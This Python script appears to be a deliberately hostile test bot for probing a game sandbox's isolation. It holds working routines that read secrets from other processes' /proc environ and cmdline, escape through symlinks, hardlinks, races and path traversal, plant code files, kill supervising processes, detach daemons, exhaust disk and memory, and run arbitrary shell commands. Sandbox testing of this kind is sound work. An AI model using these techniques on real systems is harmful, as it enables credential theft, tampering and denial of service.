"""One hostile bot: argument 1 is the attack, the others say where its aims are. What it gets hold of it prints."""
import ctypes
import glob
import json
import mmap
import os
import resource
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time

name, args = sys.argv[1], [a[1:] for a in sys.argv[2:]]  # each with a sign before it: nobody is to take it for a path
got = []


def read(path):
    with open(path, "rb") as f:
        got.append(f.read(1 << 16).decode("latin-1"))


def read_secret(path):
    with open(path, "rb") as f:
        text = f.read(1 << 20)
        if b"secret-" in text:
            got.append(text[text.index(b"secret-"):][:40].decode("latin-1"))


def write(path, text="attacked"):
    with open(path, "a") as f:
        f.write(text)


def processes():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def each(action):
    for pid in processes():
        try:
            action(pid)
        except OSError:
            pass


def aimed(mark):
    """The processes whose command has the mark."""
    found = []

    def look(pid):
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if mark.encode() in f.read():
                found.append(pid)
    each(look)
    return found


def fds(pid, action):
    for fd in os.listdir(f"/proc/{pid}/fd"):
        path = f"/proc/{pid}/fd/{fd}"
        try:
            if os.readlink(path).endswith("open.txt"):
                action(path)
        except OSError:
            pass


def leave_daemon(mark):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for fd in range(3):
                os.dup2(null, fd)
            os.execve("/bin/sh", ["sh", "-c", "sleep 100; :", mark], {})
        os._exit(0)
    os.wait()
    time.sleep(0.2)  # until it has forgotten whose it was


def kill_keeper(number=signal.SIGKILL):
    parent = os.getppid()
    try:
        os.kill(parent, number)
    except OSError:
        pass


def race(secret):
    """Swaps a file of its own for a link while it is opened."""
    mine, link = "race-file", "race-link"
    write(mine, "mine")
    os.symlink(secret, link)
    end = time.time() + 0.3

    def swap():
        while time.time() < end:
            os.rename(link, mine)
            os.symlink(secret, link)
    threading.Thread(target=swap, daemon=True).start()
    while time.time() < end:
        try:
            read(mine)
        except OSError:
            pass


def listen(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", int(port)))
    s.listen()
    s.settimeout(3)
    try:
        s.accept()[0].sendall(b"attacked")
    except OSError:
        pass


def send(family, kind, address):
    s = socket.socket(family, kind)
    s.settimeout(2)
    s.connect(address)
    s.send(b"attacked")


def fill(path, megabytes):
    block = b"x" * (1 << 20)
    with open(path, "wb") as f:
        for _ in range(megabytes):
            f.write(block)


def place():
    """where files for a moment may lie"""
    return os.environ.get("TMPDIR") or os.getcwd()


def nameless(megabytes, keep):
    """files that are removed while keep holds them; of 100 MB each"""
    kept = []
    for i in range(megabytes // 100):
        path = f"{place()}/nameless-{i}"
        with open(path, "w+b") as f:
            os.unlink(path)
            block = b"x" * (1 << 20)
            for _ in range(100):
                f.write(block)
            f.flush()
            kept.append(keep(f))
    time.sleep(1.5)
    got.append("went-through")


def by_message(f):
    """holds a file by a message that nobody takes"""
    a, b = socket.socketpair()
    socket.send_fds(a, [b"x"], [f.fileno()])
    return a, b


def deep(megabytes):
    """a file below folders whose path is longer than any that can be opened"""
    os.chdir(place())
    for _ in range(60):
        os.mkdir("f" * 200)
        os.chdir("f" * 200)
    for i in range(megabytes // 100):
        fill(str(i), 100)
    time.sleep(1.5)
    got.append("went-through")


def beyond(gigabytes):
    """blocks of a disk beyond the end of a file, which is as short as ever"""
    with open(f"{place()}/beyond", "wb") as f:
        keep_size = 1
        if ctypes.CDLL(None, use_errno=True).fallocate64(f.fileno(), keep_size, ctypes.c_long(0), ctypes.c_long(gigabytes << 30)):
            raise OSError(ctypes.get_errno(), "fallocate")
        got.append("went-through")


def memfd(megabytes):
    block = b"x" * (1 << 20)
    for _ in range(megabytes // 100):
        fd = os.memfd_create("x")
        for _ in range(100):
            os.write(fd, block)
    got.append("went-through")


def crowd(path, files):
    os.mkdir(path)
    for i in range(files):
        open(f"{path}/{i}", "w").close()


def threads(n):
    for _ in range(n):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    time.sleep(2)
    got.append("went-through")


def database(path):
    db = sqlite3.connect(path)
    db.execute("update games set rank = 99")
    db.commit()


attacks = {
    "read": read,
    "read-beside": lambda a, b, *named: [read(os.path.join(os.path.dirname(os.path.abspath(__file__)), x)) for x in (a, b)],
    "list": lambda path: got.append(" ".join(os.listdir(path))),
    "environment": lambda: got.append(json.dumps(dict(os.environ))),
    "environments": lambda: each(lambda pid: read_secret(f"/proc/{pid}/environ")),
    "commands": lambda: each(lambda pid: read_secret(f"/proc/{pid}/cmdline")),
    "open-files": lambda: each(lambda pid: fds(pid, read)),
    "write-open-files": lambda aim: each(lambda pid: fds(pid, lambda p: os.readlink(p) == aim and write(p))),
    "through-root": lambda path: each(lambda pid: read(f"/proc/{pid}/root{path}")),
    "through-cwd": lambda path: each(lambda pid: read(f"/proc/{pid}/cwd/{os.path.relpath(path, '/')}")),
    "dotdot": lambda path: read("../" * 30 + path),
    "symlink": lambda path: (os.symlink(path, "link"), read("link")),
    "hardlink": lambda path: (os.link(path, "hard"), read("hard")),
    "race": race,
    "write": write,
    "write-through-root": lambda path: each(lambda pid: write(f"/proc/{pid}/root{path}")),
    "write-link": lambda path: (os.symlink(path, "way-out"), write("way-out")),
    "plant": lambda path: write(path, "raise SystemExit"),
    "plant-deep": lambda path: (os.makedirs(os.path.dirname(path), exist_ok=True), write(path, "import os")),
    "plant-link": lambda path, aim: os.symlink(aim, path),
    "remove": os.remove,
    "chmod": lambda path: os.chmod(path, 0o777),
    "truncate": lambda path: os.truncate(path, 0),
    "rename": lambda a, b: os.rename(a, b),
    "escape-name": lambda folder: write(folder + "/\x1b[2Jname"),
    "database": database,
    "fill": lambda path, n: fill(path, int(n)),
    "crowd": lambda path, n: crowd(path, int(n)),
    "nameless": lambda n: nameless(int(n), lambda f: os.dup(f.fileno())),
    "nameless-mapped": lambda n: nameless(int(n), lambda f: mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE)),
    "nameless-sent": lambda n: nameless(int(n), by_message),
    "deep": lambda n: deep(int(n)),
    "beyond": lambda n: beyond(int(n)),
    "memfd": lambda n: memfd(int(n)),
    "kill": lambda mark: [os.kill(p, signal.SIGKILL) for p in aimed(mark)],
    "kill-pid": lambda pid: os.kill(int(pid), signal.SIGKILL),
    "stop": lambda pid: os.kill(int(pid), signal.SIGSTOP),
    "kill-group": lambda pid: os.killpg(int(pid), signal.SIGKILL),
    "quit-pid": lambda pid: os.kill(int(pid), signal.SIGQUIT),
    "pidfd": lambda pid: signal.pidfd_send_signal(os.pidfd_open(int(pid)), signal.SIGKILL),
    "nice": lambda pid: os.setpriority(os.PRIO_PROCESS, int(pid), 11),
    "limits": lambda pid: resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (17, 17)),
    "affinity": lambda pid: os.sched_setaffinity(int(pid), {0}),
    "daemon": lambda mark: (leave_daemon(mark), kill_keeper()),
    "daemon-term": lambda mark: (leave_daemon(mark), kill_keeper(signal.SIGTERM), kill_keeper(signal.SIGSEGV), kill_keeper()),
    "stop-keeper": lambda mark: (leave_daemon(mark), kill_keeper(signal.SIGSTOP)),
    "tcp": lambda port: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(port))),
    "tcp6": lambda port: send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", int(port))),
    "udp": lambda port: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int(port))),
    "unix": lambda path: send(socket.AF_UNIX, socket.SOCK_STREAM, path),
    "abstract": lambda path: send(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + path),
    "listen": listen,
    "terminal": lambda path: write(path),
    "threads": lambda n: threads(int(n)),
    "shell": lambda command: subprocess.run(command, shell=True, timeout=5),
    "exit": lambda path: (__import__("atexit").register(lambda: write(path))),
    "fork-exit": lambda path: os.fork() or (os.setsid(), time.sleep(0.2), write(path), os._exit(0)),
}

sys.stdin.readline()
try:
    attacks[name](*args)
except BaseException as e:  # it tells, and plays on
    sys.stderr.write(f"{type(e).__name__}: {e}\n")
print(json.dumps({"response": [-1, -1, -1], "debug": "".join(got)[:60000]}))
sys.stdout.flush()
